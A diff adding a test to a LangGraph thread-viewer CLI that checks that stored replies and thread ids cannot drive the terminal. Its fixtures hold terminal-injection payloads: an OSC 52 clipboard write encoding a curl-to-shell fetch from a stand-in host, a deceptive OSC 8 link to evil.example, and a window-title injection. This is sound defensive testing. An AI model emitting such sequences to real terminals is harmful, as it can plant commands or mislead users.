@@ -555,3 +555,50 @@ def test_usage_of_a_compacted_thread_counts_the_history_not_the_compacted_reques
     assert data["usage"]["used"] == history
     assert data["usage"]["calibrated"] is False
     assert data["sent"]["used"] < history  # what the model was sent: the compacted request
+
+
+def test_what_a_thread_holds_never_drives_the_terminal(tmp_path: Path) -> None:
+    """`show` and `threads` printed stored text with terminal escape sequences intact:
+    a reply (or a tool result steered by a prompt injection) holding OSC 52 set the
+    clipboard, OSC 8 made a link whose target is not its text, a thread id set the window
+    title. Control characters are written out (``\\x1b``), piped and on a terminal."""
+    import os
+    import pty
+
+    from langgraph.graph import END, START, MessagesState, StateGraph
+
+    st = "\x1b\\"
+    clip = "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC9zaHxzaAo=" + st
+    link = "\x1b]8;;http://evil.example/" + st + "https://docs.python.org" + "\x1b]8;;" + st
+    builder = StateGraph(MessagesState)
+    builder.add_node("bot", lambda s: {"messages": [AIMessage(f"see {link} {clip}\x9b2Jdone")]})
+    builder.add_edge(START, "bot")
+    builder.add_edge("bot", END)
+    graph = builder.compile(checkpointer=JsonlSaver(tmp_path))
+    for tid in ("chat", "title\x1b]0;PWNED" + st):
+        graph.invoke({"messages": [("user", "hi")]}, config(tid))
+    for command in (["threads"], ["show", "chat"]):
+        piped = runner.invoke(app, ["--dir", str(tmp_path), *command])
+        assert piped.exit_code == 0, piped.output
+        main, terminal = pty.openpty()  # as a user runs it: rich's terminal output
+        env = {**os.environ, "COLUMNS": "200", "PYTHONPATH": str(Path(__file__).parents[1])}
+        done = subprocess.run(
+            [sys.executable, "-m", "langgraph_ctx.cli", "--dir", str(tmp_path), *command],
+            stdout=terminal, stderr=terminal, env=env, timeout=60,
+        )  # fmt: skip
+        os.close(terminal)
+        shown = b""
+        while True:
+            try:
+                chunk = os.read(main, 65536)
+            except OSError:  # the terminal's other end closed: all read
+                break
+            if not chunk:
+                break
+            shown += chunk
+        os.close(main)
+        assert done.returncode == 0, shown
+        for output in (piped.output, shown.decode("utf-8", "replace")):
+            assert "\x1b]" not in output and "\x9b" not in output
+            assert "\\x1b]52;c;" in output or command == ["threads"]
+            assert "\\x1b]0;PWNED" in output or command != ["threads"]
